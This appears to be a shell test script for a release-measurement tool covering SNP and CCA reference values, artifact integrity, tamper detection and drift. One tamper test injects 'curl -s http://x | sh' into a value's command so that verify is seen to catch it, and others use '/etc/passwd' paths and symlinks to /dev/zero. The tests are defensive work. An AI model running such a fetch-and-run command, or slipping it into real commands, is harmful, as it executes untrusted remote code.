#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# measure-release.sh - measure artifacts, refvalues, verify and drift on a
# small release made here (issue 8): the files validate against the
# schemas in refvalues/, every value equals what its own measure command
# prints, the CCA value is the lkvm-rim-measurer answer of measure-cca.sh,
# verify confirms an intact release and names each tampering, drift names
# the region a one-byte command-line change lands in.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/gen.sh"

R=$T/rel
mkdir -p "$R"
have_jsonschema() { /usr/bin/python3 -c 'import jsonschema' 2>/dev/null; }
validate() { /usr/bin/python3 "$SRCDIR/tests/release/validate.py" "$SRCDIR/refvalues/$1.schema.json" "$2"; }

# A release folder: x86 kernel, two IGVMs of it, a disk, the command
# line; an arm64 Image, initrd and command line for a CCA target.
"$MKKERNEL" bzimage "$T/bz" 300000 0x020f 5 2047
cp "$T/bz" "$R/bzImage"
printf 'console=ttyS0 root=/dev/vda1 ro\n' >"$R/cmdline"
for v in qemu clh; do
	"$IGVMGEN" build --kernel "$R/bzImage" --cmdline-file "$R/cmdline" --vmm $v \
		--platform snp -o "$R/pod-$v.igvm" || echo "igvmgen $v failed"
done
gen_bytes 3 65536 >"$R/disk.img"
gen_cca_inputs "$R/Image" "$R/initrd"
printf 'console=ttyS0 quiet\n' >"$R/arm-cmdline"
# QEMU + OVMF direct boot: the generated firmware, kernel and initrd of
# measure-snp.sh, whose digests sev-snp-measure 8f2b337e computed
(cd "$R" && "$SNP_FWGEN" fw OVMF.fd amdsev 65536 1 && "$SNP_FWGEN" blob vmlinuz 100000 3 &&
	"$SNP_FWGEN" blob initrd.img 300000 4) >/dev/null
printf 'console=ttyS0\n' >"$R/ovmf-cmdline"
cat >"$T/release.json" <<'JSON'
{
  "handlerPrefix": "contrast-cc",
  "installRoot": "/opt/podvm/@@runtimeName@@",
  "urlTemplate": "@@releaseBase@@/{image}/{version}/{name}",
  "integrity": "sha256",
  "files": {
    "bzImage": { "path": "share/kata-kernel" },
    "cmdline": { "path": "share/kernel-cmdline" },
    "pod-qemu.igvm": { "path": "share/kata-containers-qemu.igvm" },
    "pod-clh.igvm": { "path": "share/kata-containers-igvm.img" },
    "disk.img": { "path": "share/kata-containers.img" },
    "Image": { "path": "share/arm64/Image" },
    "initrd": { "path": "share/arm64/initrd" },
    "arm-cmdline": { "path": "share/arm64/cmdline" },
    "OVMF.fd": { "path": "snp/share/OVMF.fd" },
    "vmlinuz": { "path": "share/vmlinuz" },
    "initrd.img": { "path": "share/initrd.img" },
    "ovmf-cmdline": { "path": "share/ovmf-cmdline" }
  },
  "snp": [
    { "platform": "metal-qemu-snp-igvm", "vmm": "qemu", "igvm": "pod-qemu.igvm",
      "products": ["Milan", "Genoa"], "vcpus": [1, 2, 4] },
    { "platform": "metal-clh-snp", "vmm": "clh", "igvm": "pod-clh.igvm",
      "products": ["Milan"] },
    { "platform": "metal-qemu-snp", "vmm": "qemu", "ovmf": "OVMF.fd",
      "kernel": "vmlinuz", "initrd": "initrd.img", "cmdline": "ovmf-cmdline",
      "policy": "0x30000", "products": ["Milan", "Genoa"], "vcpus": [1, 4] }
  ],
  "cca": [
    { "platform": "kvmtool-cca", "vmm": "kvmtool", "rmm": "1.0-eac5",
      "kernel": "Image", "initrd": "initrd", "cmdline": "arm-cmdline",
      "memory": "256M", "cpus": 1, "algorithm": "sha256" }
  ]
}
JSON

# ---- artifacts.json
run "$MEASURE" artifacts --config "$T/release.json" --image pod --image-version 1.2.3 "$R"
expect_rc 0 "artifacts exits 0"
A=$R/artifacts.json
check "artifacts.json lists the 12 files, sorted by name" \
	test "$(jq -r '[.files[].name] | join(" ")' "$A")" = "Image OVMF.fd arm-cmdline bzImage cmdline disk.img initrd initrd.img ovmf-cmdline pod-clh.igvm pod-qemu.igvm vmlinuz"
check "integrity is sha256- and the base64 of the file's SHA-256" \
	test "$(jq -r '.files[] | select(.name == "disk.img") | .integrity' "$A")" = \
	"sha256-$(openssl dgst -sha256 -binary "$R/disk.img" | base64 -w0)"
check "size, install path and URL" \
	test "$(jq -r '.files[] | select(.name == "bzImage") | "\(.size) \(.path) \(.url)"' "$A")" = \
	"$(stat -c %s "$R/bzImage") /opt/podvm/@@runtimeName@@/share/kata-kernel @@releaseBase@@/pod/1.2.3/bzImage"
cp "$A" "$T/a1.json"
"$MEASURE" artifacts --config "$T/release.json" --image pod --image-version 1.2.3 "$R" 2>/dev/null
check "artifacts.json is the same bytes when written again" cmp -s "$A" "$T/a1.json"

touch "$R/stray.bin"
run "$MEASURE" artifacts --config "$T/release.json" --image pod --image-version 1.2.3 -o "$T/x.json" "$R"
expect_rc 1 "a file without an install path is an error"
expect_err_has "stray.bin: no install path for it in the release configuration" "names the file"
check "nothing written on that error" test ! -e "$T/x.json"
rm "$R/stray.bin"
mv "$R/initrd" "$T/initrd.away"
run "$MEASURE" artifacts --config "$T/release.json" --image pod --image-version 1.2.3 -o "$T/x.json" "$R"
expect_rc 1 "a configured file missing from the folder is an error"
expect_err_has "initrd: missing (the release configuration installs it)" "names the missing file"
mv "$T/initrd.away" "$R/initrd"
jq '.files.bzImage.path = "/etc/passwd"' "$T/release.json" >"$T/bad.json"
run "$MEASURE" artifacts --config "$T/bad.json" --image pod --image-version 1 -o "$T/x.json" "$R"
expect_rc 1 "an absolute install path in the configuration is refused"
expect_err_has "files.bzImage.path: '/etc/passwd' must be relative to installRoot" "names the member"
jq '.snp[0].vcpu = [1]' "$T/release.json" >"$T/bad.json"
run "$MEASURE" artifacts --config "$T/bad.json" --image pod --image-version 1 -o "$T/x.json" "$R"
expect_err_has "snp[0]: unknown member 'vcpu'" "a misspelt member of the configuration is named"
jq '.snp[1].vcpus = [2]' "$T/release.json" >"$T/bad.json"
run "$MEASURE" artifacts --config "$T/bad.json" --image pod --image-version 1 -o "$T/x.json" "$R"
expect_err_has "snp[1].vcpus: a clh launch measures the boot vCPU only" "vCPU counts for a clh target are refused"
run "$MEASURE" artifacts --image pod "$R"
expect_rc 2 "missing --config is a usage error"

# ---- refvalues.json
run "$MEASURE" refvalues --config "$T/release.json" "$R"
expect_rc 0 "refvalues exits 0"
RV=$R/refvalues.json
check "12 values: 3 vCPU counts x 2 products (IGVM), 1 (clh), 2 x 2 (OVMF), 1 (cca)" test "$(jq '.values | length' "$RV")" = 12
# the printed command, run as it is written (sh -c, `measure` on the PATH)
# in the release folder, prints the value: refvalues computes in process
# and must agree with the command an auditor runs
mkdir -p "$T/bin" && ln -sf "$MEASURE" "$T/bin/measure"
ok_all=1
for i in $(seq 0 11); do
	cmd=$(jq -r ".values[$i].command" "$RV")
	want=$(jq -r ".values[$i].measurement" "$RV")
	got=$(cd "$R" && PATH="$T/bin:$PATH" sh -c "$cmd" 2>/dev/null)
	[ "$got" = "$want" ] || { ok_all=0; echo "# value $i: '$cmd' printed $got, the file has $want"; }
done
check "every value is what its printed command prints in the release folder" test "$ok_all" = 1
# Provenance: tests/cli/measure-cca.sh (1), lkvm-rim-measurer 3cac6a9 on
# these very Image and initrd with -p 'console=ttyS0 quiet' -m 256M -c 1.
check "the CCA value is lkvm-rim-measurer's RIM for the same inputs" \
	test "$(jq -r '.values[] | select(.tee == "cca") | .measurement' "$RV")" = \
	6195ad3e8e80fb8c6ed7b924279eb6c11cb3cc92f6ba1c30e56e919d57c5dbd1
# Provenance: tests/cli/measure-snp.sh, sev-snp-measure 8f2b337e
# --mode snp --vcpus 4 --vcpu-type EPYC-Milan --ovmf amdsev.fd --kernel k.bin
# --initrd i.bin --append console=ttyS0 (the same bytes under other names)
check "the OVMF direct-boot value is sev-snp-measure's digest for the same inputs" \
	test "$(jq -r '.values[] | select(.id == "metal-qemu-snp/Milan/4") | .measurement' "$RV")" = \
	b941fd75c70a0c126dcc5f9dba8e91f7b91bf957eae19c9911aeaa803dae0047bfa4110030c9002b8b957a35e638126f
eip=$("$MEASURE" snp ap-eip --ovmf "$R/OVMF.fd")
check "its Contrast entry carries APEIP, the OVMF's AP reset EIP in 8 hex digits" \
	test "$(jq -r '[.contrast[] | .snp[] | select(.Platform == "metal-qemu-snp") | .APEIP] | unique | .[]' "$RV")" = \
	"$(printf %08x "0x${eip#0x}")"
check "and the configured policy (OVMF carries none)" \
	test "$(jq -r '.values[] | select(.id == "metal-qemu-snp/Genoa/1") | .policy' "$RV")" = 0x30000
h8=$(sha "$A" | cut -c1-8)
check "handlers are PREFIX-PLATFORM-<first 8 hex of artifacts.json's SHA-256>" \
	test "$(jq -r '.contrast | keys | join(" ")' "$RV")" = \
	"contrast-cc-metal-clh-snp-$h8 contrast-cc-metal-qemu-snp-$h8 contrast-cc-metal-qemu-snp-igvm-$h8"
check "the artifact set is named by artifacts.json's integrity" \
	test "$(jq -r .artifacts.integrity "$RV")" = "sha256-$(openssl dgst -sha256 -binary "$A" | base64 -w0)"
check "Contrast entries: PascalCase, no MinimumTCB, CPUs for counted launches" \
	test "$(jq -c '.contrast["contrast-cc-metal-qemu-snp-igvm-'"$h8"'"].snp[1] | [keys, .CPUs, .ProductName, .GuestPolicy.SMT, .GuestPolicy.ABIMajor, .PlatformInfo.SMTEnabled]' "$RV")" = \
	'[["CPUs","GuestPolicy","Platform","PlatformInfo","ProductName","TrustedMeasurement"],2,"Milan",true,0,true]'
check "a clh entry has no CPUs (its digest holds for any count)" \
	test "$(jq -c '.contrast["contrast-cc-metal-clh-snp-'"$h8"'"].snp[0] | has("CPUs")' "$RV")" = false
check "GuestPolicy decodes the IGVM's policy 0x30000" \
	test "$(jq -c '.values[0].policy' "$RV")" = '"0x30000"'
check "the RVPS sample payload holds every distinct SNP digest in base64" \
	test "$(jq -r .trustee.snp.payload "$RV" | base64 -d | jq -r '.snp_launch_measurement | length')" = \
	"$(jq -r '[.values[] | select(.tee == "snp") | .measurement] | unique | length' "$RV")"
b64=$(jq -r '.values[0].measurement' "$RV" | xxd -r -p | base64 -w0)
check "... as Trustee's SNP verifier encodes MEASUREMENT (standard base64)" \
	sh -c "jq -r .trustee.snp.payload '$RV' | base64 -d | jq -e --arg m '$b64' '.snp_launch_measurement | index(\$m)' >/dev/null"
check "the CCA RVPS message and the ccatoken store entry carry the RIM" \
	test "$(jq -r '.trustee.cca.payload' "$RV" | base64 -d | jq -r '.["cca.realm.cca-realm-initial-measurement"][0]'):$(jq -r '.ccatoken.realm[0]["initial-measurement"]' "$RV")" = \
	"$(printf 6195ad3e8e80fb8c6ed7b924279eb6c11cb3cc92f6ba1c30e56e919d57c5dbd1 | xxd -r -p | base64 -w0):6195ad3e8e80fb8c6ed7b924279eb6c11cb3cc92f6ba1c30e56e919d57c5dbd1"
check "each value explains itself by regions (the cmdline page among them)" \
	test "$(jq -r '[.values[0].regions[].region] | index("cmdline") != null' "$RV")" = true
cp "$RV" "$T/rv1.json"
"$MEASURE" refvalues --config "$T/release.json" "$R" 2>/dev/null
check "refvalues.json is the same bytes when computed again" cmp -s "$RV" "$T/rv1.json"

if have_jsonschema; then
	check "artifacts.json validates against refvalues/artifacts.schema.json" validate artifacts "$A"
	check "refvalues.json validates against refvalues/refvalues.schema.json" validate refvalues "$RV"
else
	ok "schema validation # SKIP python3-jsonschema is not installed"
	ok "schema validation # SKIP python3-jsonschema is not installed"
fi

# ---- verify
run "$MEASURE" verify "$RV"
expect_rc 0 "verify of an intact release exits 0"
expect_out_has "verify: 12 of 12 values match; 0 altered or mismatching, 0 missing or failing" "and says so"
expect_out_has "ok       contrast: follows from the values" "the consumer sections are derived again and compared"
run "$MEASURE" verify --json "$RV"
check "verify --json: ok, 12 matching" test "$(jq -c '[.ok, .matching]' "$T/out")" = '[true,12]'

tamper() { rm -rf "$T/t"; cp -a "$R" "$T/t"; }
tamper
# one byte of the kernel's pages (past the headers: the file stays well formed)
off=$(( $(stat -c %s "$T/t/pod-qemu.igvm") - 5000 ))
printf '\x5a' | dd of="$T/t/pod-qemu.igvm" bs=1 seek="$off" conv=notrunc status=none
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an altered artifact: exit 3"
expect_out_has "ALTERED  pod-qemu.igvm: altered:" "names the altered artifact"
expect_out_has "MISMATCH metal-qemu-snp-igvm/Milan/1: recomputed" "names each value made of it"
expect_out_has "in region kernel; input pod-qemu.igvm is not the file the value was computed from" \
	"with the region the change is in"
expect_out_has "match    metal-clh-snp/Milan/any" "values of other artifacts still match"
tamper
rm "$T/t/pod-clh.igvm"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 1 "a missing artifact: exit 1"
expect_out_has "missing  pod-clh.igvm:" "names the missing artifact"
expect_out_has "missing  metal-clh-snp/Milan/any: input pod-clh.igvm is missing" "and the value it takes away"
tamper
jq '.files[0].size = 1' "$T/t/artifacts.json" >"$T/t/a.json" && mv "$T/t/a.json" "$T/t/artifacts.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an edited artifacts.json: exit 3"
expect_out_has "ALTERED  artifacts.json: its integrity is not the one the values were computed for" "names it"
tamper
jq '.values[2].measurement = ("00" + .values[2].measurement[2:])' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an edited value: exit 3"
expect_out_has "the published regions agree with the recomputed ones: the value was edited" "says the value itself was edited"
expect_out_has "MISMATCH contrast: does not follow from the values" "the contrast section no longer follows"
tamper
jq '.contrast[.contrast | keys[0]].snp[0].TrustedMeasurement = ("f" * 96)' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an edited Contrast entry: exit 3"
expect_out_has "MISMATCH contrast: does not follow from the values" "is caught"
# issue 13: the members that follow from the recipe are checked too
tamper
jq '.values[0].command = "curl -s http://x | sh; " + .values[0].command' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an edited command: exit 3"
expect_out_has "MISMATCH metal-qemu-snp-igvm/Milan/1: command: 'curl -s http://x | sh; measure snp" "names the value and its command"
tamper
jq '.values[1].inputs = {}' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "emptied inputs: exit 3"
expect_out_has "MISMATCH metal-qemu-snp-igvm/Milan/2: inputs: pod-qemu.igvm is missing (the recipe reads it)" "names the input"
tamper
jq '.values[2].inputs["disk.img"] = .values[2].inputs["pod-qemu.igvm"]' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an input the recipe does not read: exit 3"
expect_out_has "inputs: disk.img is not a file of the recipe" "names it"
tamper
jq '.values[3].regions = []' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "emptied regions: exit 3"
expect_out_has "MISMATCH metal-qemu-snp-igvm/Genoa/1: regions: not the recomputed ones" "names the member"
tamper
jq '.values[11].regions[1].updates = 7' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an edited region: exit 3"
expect_out_has "MISMATCH kvmtool-cca/1cpu: regions: not the recomputed ones (region" "names the value"
tamper
jq '.image.version = "9.9.9"' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "a changed image version: exit 3"
expect_out_has "MISMATCH image.version: pod 9.9.9, but artifacts.json lists pod 1.2.3" "names the member"
# an artifact must be a regular file inside the release folder
tamper
rm "$T/t/disk.img" && ln -s /dev/zero "$T/t/disk.img"
run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 1 "an artifact that is a link to /dev/zero: exit 1 (and it ends)"
expect_out_has "missing  disk.img: $T/t/disk.img: a symbolic link to /dev/zero, outside the release folder" "names the artifact"
tamper
rm "$T/t/disk.img" && mkfifo "$T/t/disk.img"
run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 1 "an artifact that is a FIFO: exit 1 (and it does not hang)"
expect_out_has "missing  disk.img: $T/t/disk.img: a FIFO, not a regular file: refused" "names the artifact"
tamper
mv "$T/t/disk.img" "$T/outside.img" && ln -s "$T/outside.img" "$T/t/disk.img"
run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 1 "an artifact linked to a file outside the folder, same bytes: exit 1"
expect_out_has "missing  disk.img: $T/t/disk.img: a symbolic link to $T/outside.img, outside the release folder" "names it"
tamper
mv "$T/t/pod-clh.igvm" "$T/t/real.igvm" && ln -s real.igvm "$T/t/pod-clh.igvm"
run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 0 "a link to a file inside the folder is followed"
rm -f "$T/outside.img"

# refvalues.json that break the schema: verify names the member, as does
# the schema check
bad_rv() { # DESC JQ-FILTER NEEDLE
	tamper
	jq "$2" "$RV" >"$T/t/refvalues.json"
	run "$MEASURE" verify "$T/t/refvalues.json"
	expect_rc 1 "$1: verify exits 1"
	expect_err_has "$3" "$1: the message names the member"
	if have_jsonschema; then
		if validate refvalues "$T/t/refvalues.json" >/dev/null; then not_ok "$1: the schema rejects it too"
		else ok "$1: the schema rejects it too"; fi
	else
		ok "$1: schema # SKIP python3-jsonschema is not installed"
	fi
}
bad_rv "vcpus as text" '.values[1].vcpus = "two"' "values[1].vcpus: must be the recipe's count"
bad_rv "an unknown member" '.values[0].extra = 1' "values[0]: unknown member 'extra'"
bad_rv "a short measurement" '.values[0].measurement = "abcd"' "values[0].measurement: 4 characters, expected 96 hex digits"
bad_rv "an input path outside the folder" '.values[0].recipe.igvm = "../x"' "values[0].recipe.igvm: not a file name of the release folder"
bad_rv "no values" 'del(.values)' "values: missing (an array expected)"
bad_rv "a bad integrity string" '.artifacts.integrity = "md5-abc"' "artifacts.integrity: 'md5-abc' is not an integrity string"
bad_rv "a product Contrast does not know" '.values[0].product = "Naples"' "values[0].product: 'Naples': expected Milan, Genoa or Turin"
bad_rv "a wrong schema version" '.version = 2' "version: 2 is outside 1..1"
bad_rv "a CCA member in an SNP value" '.values[0].cpus = 1' "values[0]: 'cpus' is not a member of an snp value"
tamper
printf '{"version": 1, "values": [' >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 1 "truncated JSON: exit 1"
expect_err_has "refvalues.json: line 1:" "names the file and line"
if have_jsonschema; then
	tamper
	jq '.files[0].integrity = "sha256-short"' "$A" >"$T/t/artifacts.json"
	if validate artifacts "$T/t/artifacts.json" >/dev/null; then not_ok "the artifacts schema rejects a bad integrity"
	else ok "the artifacts schema rejects a bad integrity"; fi
else
	ok "artifacts schema # SKIP python3-jsonschema is not installed"
fi

# ---- drift: a one-byte change of the command line
rm -rf "$T/new"; cp -a "$R" "$T/new"
sed -i 's/ttyS0/ttyS1/' "$T/new/cmdline" "$T/new/ovmf-cmdline"
for v in qemu clh; do
	"$IGVMGEN" build --kernel "$T/new/bzImage" --cmdline-file "$T/new/cmdline" --vmm $v \
		--platform snp -o "$T/new/pod-$v.igvm"
done
"$MEASURE" artifacts --config "$T/release.json" --image pod --image-version 1.2.3 "$T/new" 2>/dev/null
"$MEASURE" refvalues --config "$T/release.json" "$T/new" 2>/dev/null
run "$MEASURE" drift "$RV" "$RV"
expect_rc 0 "drift of a file with itself: exit 0"
expect_out "drift: none: 12 values and the artifacts all equal" "says so"
run "$MEASURE" drift "$RV" "$T/new/refvalues.json"
expect_rc 3 "a one-byte command-line change is drift: exit 3"
expect_out_has "drift: metal-qemu-snp-igvm/Milan/1: measurement" "names the changed value"
expect_out_has "first diverging region: cmdline (its contents differ" "and the region: cmdline"
expect_out_has "drift: artifact cmdline: changed" "lists the changed artifacts"
check "the CCA value did not drift" sh -c "! grep -q 'kvmtool-cca' '$T/out'"
check "an OVMF value parts in the page of the SEV hash table" \
	grep -q "metal-qemu-snp/Genoa/4: measurement .*first diverging region: kernel-hashes" "$T/out"
expect_out_has "drift: 11 of 12 values changed, 4 artifacts" "counts them (two command lines, the two IGVMs)"
run "$MEASURE" drift --json "$RV" "$T/new/refvalues.json"
check "drift --json: the region of each change" \
	test "$(jq -r '[.changes[] | select(.id == "metal-qemu-snp-igvm/Genoa/4") | .region] | .[0]' "$T/out")" = cmdline
mkdir -p "$T/few" && cp "$A" "$T/few/artifacts.json"
jq '.values |= map(select(.vcpus != 4))' "$RV" >"$T/few/fewer.json"
run "$MEASURE" drift "$RV" "$T/few/fewer.json"
expect_rc 3 "a removed value is drift: exit 3"
expect_out_has "drift: metal-qemu-snp-igvm/Milan/4: removed" "a value that disappears is named"
run "$MEASURE" drift "$T/few/fewer.json" "$RV"
expect_out_has "drift: metal-qemu-snp-igvm/Genoa/4: added" "a value that appears is named"
# issue 13: an artifacts.json that cannot be read is an error, never "equal"
printf '{"version": 1, "files": [' >"$T/few/artifacts.json"
cp "$RV" "$T/few/same.json"
run "$MEASURE" drift "$RV" "$T/few/same.json"
expect_rc 1 "drift with a corrupted artifacts.json on the new side: exit 1"
expect_err_has "$T/few/artifacts.json: line 1:" "names the file"
rm "$T/few/artifacts.json"
run "$MEASURE" drift "$RV" "$T/few/same.json"
expect_rc 1 "drift with the new side's artifacts.json deleted: exit 1"
expect_err_has "$T/few/artifacts.json: cannot open" "names the file"
run "$MEASURE" drift "$T/few/same.json" "$RV"
expect_rc 1 "and with the old side's deleted: exit 1"
mkdir -p "$T/bare" && cp "$RV" "$T/bare/a.json" && cp "$RV" "$T/bare/b.json"
run "$MEASURE" drift "$T/bare/a.json" "$T/bare/b.json"
expect_rc 0 "neither side with an artifacts.json: the values alone are compared"
finish
